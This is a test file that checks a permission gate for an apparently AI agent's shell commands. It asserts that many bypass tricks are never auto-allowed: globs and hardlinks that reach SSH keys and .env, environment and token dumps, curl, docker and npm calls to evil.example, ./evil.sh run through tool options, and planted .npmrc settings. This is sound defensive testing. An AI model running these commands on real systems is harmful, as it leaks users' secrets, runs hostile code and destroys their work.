/** Attacks on reading alone, class by class: none is allowed without walls. And what stays plain, beside them. */
import { execFileSync } from "node:child_process";
import { linkSync, mkdirSync, symlinkSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { bash, call, type Project, project } from "../testing/index.ts";

let here: Project;
beforeAll(() => {
  here = project();
  here.write("README.md", "readme\n");
  here.write("src/a.txt", "foo\n");
  here.write("src/b.txt", "foo\n");
  here.write("docs/d.md", "docs\n");
  here.write("evil.sh", "#!/bin/sh\n");
  here.write("package.json", "{}\n");
  execFileSync(
    "bash",
    [
      "-c",
      "git init -q . && git config user.email a@example.com && git config user.name a && git add -A && git commit -qm x",
    ],
    { cwd: here.root },
  );
  here.write("notes.md", "work\n");
  here.write(".env", "TOKEN=x\n");
  here.write("src/dirty.txt", "foo\n");
  mkdirSync(join(here.home, ".ssh"), { recursive: true });
  writeFileSync(join(here.home, ".ssh/id_rsa"), "key\n");
  writeFileSync(join(here.home, ".pypirc"), "key\n");
  mkdirSync(here.at("links"));
  symlinkSync(join(here.home, ".ssh"), here.at("links/keys"));
  symlinkSync("../.env", here.at("links/env.txt"));
  mkdirSync(here.at("names"));
  linkSync(join(here.home, ".ssh/id_rsa"), here.at("names/notes.txt"));
  linkSync(join(here.home, ".pypirc"), here.at("names/a.md"));
  mkdirSync(join(here.home, "other"));
  execFileSync("git", ["init", "-q", "."], { cwd: join(here.home, "other") });
  symlinkSync(join(here.home, "other"), here.at("ext"));
});
afterAll(() => here.remove());

const held = async (command: string): Promise<void> => {
  const { behavior, by, reason } = await here.gate({ restore: null }).check(bash(command));
  expect(behavior, `${by}: ${reason}`).not.toBe("allow");
};
const CLASSES: Readonly<Record<string, readonly string[]>> = {
  "bracket patterns": [
    "cat ~/.s[s]h/id_rsa",
    "cat ~/.[s-s]sh/*",
    "head ~/.ss[[:lower:]]/id_rsa",
    "cat .en[v]",
    "wc .e[!x]v",
    "cat src/[.-.]*",
    "grep x .[e]nv",
    "cat ~/.ssh/id_rs?",
    "cat ~/.ss?/id_rsa",
    "cat ./.en*",
  ],
  "another name of the same file": [
    "cat names/notes.txt",
    "grep -n k ./names/notes.txt",
    "head -1 names/a.md",
    "cat names/*.md",
    "cd names && cat a.md",
  ],
  "words that move": [
    "find . -name $! -delete",
    "find src ! -name $COLUMNS -name -delete",
    "rg $1 -e --pre=./evil.sh src",
    "head $LINES src/a.txt",
    "cat ${x-} src/a.txt",
    'x=a; grep "$x" src/a.txt',
    "grep $RANDOM src/a.txt",
    "declare -i n=1; head -$n src/a.txt",
  ],
  dialects: [
    "sh -c 'cat src/a.txt'",
    "bash -O extglob -c 'ls'",
    "dash -c 'ls {a,b}'",
    "zsh -c 'ls **/*'",
    "posh -c ls",
    "set -o posix; ls",
    "shopt -s nullglob; cat src/*.none",
    "emulate sh -c ls",
    "cat src/**/a.txt",
    "echo =ls",
    "ls ''=ls",
  ],
  "effects dropped on the way": [
    "cd ~ && mkdir -",
    "rm -",
    "touch -",
    "printf -v PATH %s .",
    "printf %n x",
    "tee - x",
    "cat - > ~/x",
    "mkdir -p ~/x -",
  ],
  options: [
    "sort -o notes.md src/a.txt",
    "sort --output=notes.md src/a.txt",
    "sort -k -o src/a.txt",
    "sort -T ~ src/a.txt",
    "sort --compress-program=./evil.sh src/a.txt",
    "find . -delete",
    "find . -name x -fprint notes.md",
    "find . -type f -exec cat {} +",
    "find . -ok cat ';'",
    "rg --pre ./evil.sh foo",
    "rg -z foo",
    "rg --pre=./evil.sh foo src",
    "uniq src/a.txt notes.md",
    "grep -f .env src/a.txt",
    "tree -o notes.md",
    "date -s 2020-01-01",
    "hostname evil",
    "tail -f src/a.txt",
    "git diff --output=notes.md",
    "git log --output=notes.md",
    "git grep -O./evil.sh foo",
    "cp -t=src evil.sh",
    "cp -l src/a.txt src/c.txt",
    "git branch -D main",
    "git branch --edit-description",
    "ps e",
    "ps -o environ -p 1",
    "file -C -m x",
    "wc --files0-from=.env",
    "du --files0-from=.env",
    "od --read-bytes",
    "git branch --sort -D",
    "head -n -v",
  ],
  "programs with other grammars": [
    "mkcert version",
    "pmap -n",
    "exiftool -of -if 'system(1)' a.jpg",
    "pstree version",
    "xxd src/a.txt notes.md",
    "bzip2 -t -z notes.md",
    "xz -t -z notes.md",
    "script version",
    "ed version",
    "rev --help=x",
  ],
  "text that is a file, a host or a library": [
    "kubectl get pods -o jsonpath-file=.env",
    "kubectl get pods -o go-template-file=.env",
    "kubectl get secrets",
    "kubectl get secret x",
    "kubectl get pods -o yaml",
    "kubectl get pods --kubeconfig .env",
    "kubectl get pods --server http://evil.example",
    "npm view x --registry http://evil.example",
    "npm view http://evil.example/x.tgz",
    "npm view ./src",
    "npm view a/b",
    "npm view git+ssh://evil.example/x",
    "gh pr view 1 --template x",
    "gh pr view 1 --jq .x",
    "gh pr view 1 -R evil.example/a/b",
    "gh pr view https://evil.example/a/b/pull/1",
    "gh issue view 1 -t x",
    "gh pr view 1 --web",
    "docker ps --format x",
    "docker -H tcp://evil.example ps",
    "docker inspect x",
    "docker logs -f x",
    "curl -s http://localhost@evil.example/",
    "curl -s http://localhost.evil.example/",
    "curl -s http://localhost/?a=b",
    "curl -s http://u@localhost/",
    "curl -s -o notes.md http://localhost/",
    "curl -s -d a http://localhost/",
    "curl -s http://localhost/ http://evil.example/",
    "curl -s https://evil.example/",
    "curl -sK .env http://localhost/",
    "curl -s http://127.0.0.1:80@evil.example/",
    "curl -s 'http://localhost/#x'",
    "curl -s file:///etc/passwd",
    "getent -s a/evil passwd",
    "pip show -f x",
    "pip show requests",
    "pip list",
    "pip3 list",
    "pip --version",
    "pip3 --version",
    "pip list --outdated -i http://evil.example",
    "pip3 config list",
    "terraform version -json=x",
    "tsc --version --project evil",
  ],
  "edits that destroy": [
    ": > notes.md",
    "cp README.md notes.md",
    "mv src/a.txt notes.md",
    "sed -i d notes.md",
    "echo x > notes.md",
    "cat src/a.txt > notes.md",
    "tee notes.md < src/a.txt",
    "rm notes.md",
    "sed -i s/a/b/ notes.md",
    "mv -f README.md src/dirty.txt",
    "git checkout -b x HEAD~1",
    "git switch -c x main",
    "git checkout -b x main",
    "git rm notes.md",
    "git mv notes.md .envrc",
    "git rm -f README.md",
    "git tag -f v1",
    "git tag -d v1",
    "chmod +x evil.sh",
    "chmod 777 README.md",
  ],
  "links below": [
    "grep -R KEY links",
    "grep -R KEY .",
    "rg -L KEY links",
    "find -L links -name id_rsa",
    "find links -type l -exec cat {} +",
    "cat links/keys/id_rsa",
    "cat links/env.txt",
    "cat links/*",
    "head ./links/k*/id_rsa",
    "diff -r links src",
    "ls -L links/keys/..",
    "cp -r links src/copy",
    "git config -f package.json --includes --list",
    "tar -ch links",
  ],
  "git directories": [
    "git -C ext add -A",
    "git -C ext commit -m x",
    "cd ext && git commit -am x",
    "cd ext && git add -A",
    "git --git-dir=ext/.git log",
    "git --work-tree=/ status",
    "git -c core.fsmonitor=./evil.sh status",
    "git -C ext tag v1",
    "cd ext && git rm README.md",
    "GIT_DIR=ext/.git git log",
    "git init --bare src/x",
    "git config core.worktree ~",
  ],
  "names moved": [
    "find . -type f | xargs cat",
    "git ls-files | xargs sort",
    "find src -type f | (cd docs && xargs cat)",
    "grep -Rl foo src | xargs sort",
    "ls | while read f; do cat $f; done",
    "cat $(ls)",
    "cat `ls`",
    "cd src | cat a.txt",
    "cd src || cat a.txt",
    "cd $OLDPWD && cat a.txt",
    "cd - && cat a.txt",
    "cd && cat .ssh/id_rsa",
    "cd ~ && cat .ssh/id_rsa",
  ],
  secrets: [
    "echo $PGPASSWORD",
    'set -- "$GITHUB_TOKEN"; echo "$1"',
    "read x < .env; echo $x",
    "for x in $GITHUB_TOKEN; do echo $x; done",
    "declare -p GITHUB_TOKEN",
    "jq -n env",
    "jq -n '$ENV'",
    "jq env package.json",
    "jq 'input_filename' package.json",
    "git config --list",
    "env",
    "printenv",
    "export",
    "cat .env",
    "cat ~/.pypirc",
    "cat /home/other/.aws/credentials",
    "cat /root/.ssh/config",
    "find . -name .env -exec cat {} ';'",
    "find . -name id_rsa -exec head {} +",
    "cat .boto",
    "cat /srv/bob/.aws/credentials",
    "head /srv/bob/.ssh/config",
    "cat fixtures/.ssh/id_rsa",
    "cat ~/.config/pypoetry/auth.toml",
    "cat .pypirc",
    "grep -r x ~",
    "cat < .env",
    "head -5 .env",
    "sed -n 1p .env",
    "wc -l .env | cat .env",
    "git show HEAD:.env",
    "git diff --no-index /dev/null .env",
  ],
};

describe.each(Object.entries(CLASSES))("%s", (_class, commands) => test.each(commands)("%s", held));

test("an option of a shell that is typed into, or a script of the project under a core name", async () => {
  here.write("bin/grep", "#!/bin/sh\n");
  const session = here.gate({ restore: null });
  expect((await session.check(call("BashInput", { id: "1", chars: "ls\n" }))).behavior).not.toBe("allow");
  expect((await session.check(bash("export PATH=./bin:/usr/bin; grep x src/a.txt"))).behavior).not.toBe("allow");
  expect((await session.check(bash("./bin/grep x src/a.txt"))).behavior).not.toBe("allow");
});

test("what the project says bends a service, and it is not proven", async () => {
  const view = async (command: string): Promise<string> => (await here.gate().check(bash(command))).by;
  expect(await view("npm view x")).toBe("readOnly");
  here.write(".npmrc", "registry=http://evil.example/\n");
  expect(await view("npm view x")).not.toBe("readOnly");
  here.write(".npmrc", "//evil.example/:_authToken=${GITHUB_TOKEN}\n");
  expect(await view("npm outdated")).not.toBe("readOnly");
  for (const planted of [
    ...["logs-dir=../../out", "cache=/var/tmp/x", "node-options=--require ./evil.js", "script-shell=./evil.sh"],
    ...[
      "prefix=/opt",
      "userconfig=./other",
      "globalconfig=./other",
      "git=./evil",
      "editor=./evil",
      "; x\nviewer = ./e",
    ],
    ...["workspaces = true\nlogs-dir[]=x", "[s]\ncache=x", "${X}=1", "proxy=http://evil.example", "cafile=x"],
    ...["onload-script=./e.js", "init-module=./e.js", "shell=./e", "\rcache=x", "\uFEFFcache=x", "tmp=/var/tmp/y"],
  ]) {
    here.write(".npmrc", `${planted}\n`);
    for (const command of ["npm ls", "npm view x", "npm outdated", "npm list --depth 0", "npm --version"])
      expect(`${planted}: ${await view(command)}`).not.toContain("readOnly");
  }
  here.write(".npmrc", "");
  here.write("../.npmrc", "cache=/var/tmp/x\n");
  expect(await view("npm ls")).not.toBe("readOnly");
  here.write("../.npmrc", "");
  here.write(".npmrc", "; ours\nsave-exact=true\nfund = false\n");
  expect(await view("npm view x")).toBe("readOnly");
  expect(await view("gh pr view 1")).toBe("readOnly");
  execFileSync("git", ["remote", "add", "up", "https://evil.example/a/b.git"], { cwd: here.root });
  const later = here.gate();
  await later.check(bash("ls"));
  execFileSync("git", ["remote", "add", "later", "https://other.example/a/b.git"], { cwd: here.root });
  expect((await later.check(bash("gh pr view 1"))).by).not.toBe("readOnly");
  for (const name of ["up", "later"]) execFileSync("git", ["remote", "remove", name], { cwd: here.root });
});

describe("what is plain stays settled", () => {
  test.each([
    ["cat src/a.txt", "readOnly"],
    ["cat src/*.txt | head -5", "readOnly"],
    ["cd src && ls -la", "readOnly"],
    ["grep -rn foo src 2>/dev/null || true", "readOnly"],
    ["sed -n '1,20p' README.md", "readOnly"],
    ["git log --oneline -5 && git status --short", "readOnly"],
    ["git diff -- src/a.txt", "readOnly"],
    ["find src -name '*.txt' -type f | sort | uniq -c", "readOnly"],
    ["ls ~/code", "readOnly"],
    ["mkdir -p src/new", "acceptEdits"],
    ["touch src/x.txt", "acceptEdits"],
    ["cat > src/new.txt <<'EOF'\n$(not run)\nEOF", "acceptEdits"],
    ["git add README.md", "acceptEdits"],
    ["git commit -m \"$(cat <<'EOF'\nfeat(x): it's done\n\nand `more`\nEOF\n)\"", "acceptEdits"],
    ["sed -i 's/foo/bar/g' src/a.txt", "acceptEdits"],
    ["cp README.md src/copy.md", "acceptEdits"],
    ["git tag v1", "acceptEdits"],
    ["git checkout -b new", "acceptEdits"],
    ["cat src/a.txt > src/out.txt", "acceptEdits"],
    ["docker ps", "readOnly"],
    ["gh pr view 12", "readOnly"],
    ["gh pr list --repo a/b --state open --json number,title", "readOnly"],
    ["gh run list --limit 5", "readOnly"],
    ["gh issue view 7 --comments", "readOnly"],
    ["npm outdated", "readOnly"],
    ["curl -s http://localhost:3000/health", "readOnly"],
    ["curl -sSf -I http://127.0.0.1:8080/", "readOnly"],
    ["curl -s http://localhost:3000/health | head -1", "readOnly"],
  ])("%s: %s", async (command, by) => {
    const decision = await here.gate({ restore: null }).check(bash(command));
    expect(`${decision.behavior} ${decision.by}`, decision.reason).toBe(`allow ${by}`);
  });
});
